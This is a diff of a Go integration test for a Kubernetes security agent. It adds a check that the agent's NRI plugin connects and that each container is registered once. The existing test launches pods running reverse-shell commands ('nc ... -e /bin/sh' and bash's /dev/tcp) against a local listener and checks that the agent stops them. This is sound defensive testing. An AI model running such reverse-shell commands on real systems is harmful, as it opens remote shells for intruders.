@@ -30,8 +30,9 @@ func listen(t *testing.T, addr string) *peer.Listener {
 func answered(l *peer.Listener) bool { return strings.Contains(l.Received(), "OWNED-42") }
 
 // TestHelmInstall installs the chart with Helm (go tool helm) and waits
-// for the DaemonSet's pod to be ready: its probes pass only when the
-// agent answers and every point enforces.
+// for the DaemonSet's pod to be ready — its probes pass only when the
+// agent answers and every point enforces — and its NRI plugin to be
+// connected.
 func TestHelmInstall(t *testing.T) {
 	root, _ := filepath.Abs("../..")
 	cmd := exec.Command("go", "tool", "helm", "upgrade", "--install", "ocigate", filepath.Join(root, "deploy/ocigate"),
@@ -41,6 +42,14 @@ func TestHelmInstall(t *testing.T) {
 		t.Fatalf("helm install: %v\n%s", err, out)
 	}
 	kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
+	// The node's gate leaves containers to the NRI plugin once the agent
+	// says it is connected.
+	eventually(t, 30*time.Second, "the agent's NRI plugin connected", func() error {
+		if n := counter(t, "nri_connected"); n != 1 {
+			return fmt.Errorf("nri_connected %d", n)
+		}
+		return nil
+	}, daemonSetLogs)
 }
 
 // TestReverseShellPodStopped: busybox nc -e and bash's /dev/tcp from
@@ -50,6 +59,7 @@ func TestReverseShellPodStopped(t *testing.T) {
 	ns := namespace(t, cluster.prefix+"-revshell")
 	l := listen(t, "127.0.0.1:0")
 	labels := map[string]string{"app": "revshell"}
+	before := counter(t, "registrations")
 	for _, p := range []podSpec{
 		{ns: ns, name: "nc-e", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: labels,
 			script: fmt.Sprintf("sleep 1; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.Port())},
@@ -69,6 +79,23 @@ func TestReverseShellPodStopped(t *testing.T) {
 	if answered(l) {
 		t.Errorf("a shell answered the listener")
 	}
+	// The node's gate left both containers to the NRI plugin: one
+	// registration each, none by the hook.
+	if n := counter(t, "registrations") - before; n != 2 {
+		t.Errorf("%d registrations for 2 containers, want 2 (the NRI plugin's only)", n)
+	}
+}
+
+// counter is one of the agent's status counters.
+func counter(t *testing.T, name string) uint64 {
+	t.Helper()
+	out := kubectl(t, "", "-n", cluster.ns, "exec", "daemonset/ocigate", "-c", "agent", "--",
+		"/ocigate-agentd", "status", "--summary", "-o", "json", "--socket="+cluster.runDir+"/agentd.sock")
+	var st struct{ Counters map[string]uint64 }
+	if err := json.Unmarshal([]byte(out), &st); err != nil {
+		t.Fatalf("agent status: %v", err)
+	}
+	return st.Counters[name]
 }
 
 const denyLoopback2 = `apiVersion: cilium.io/v1alpha1
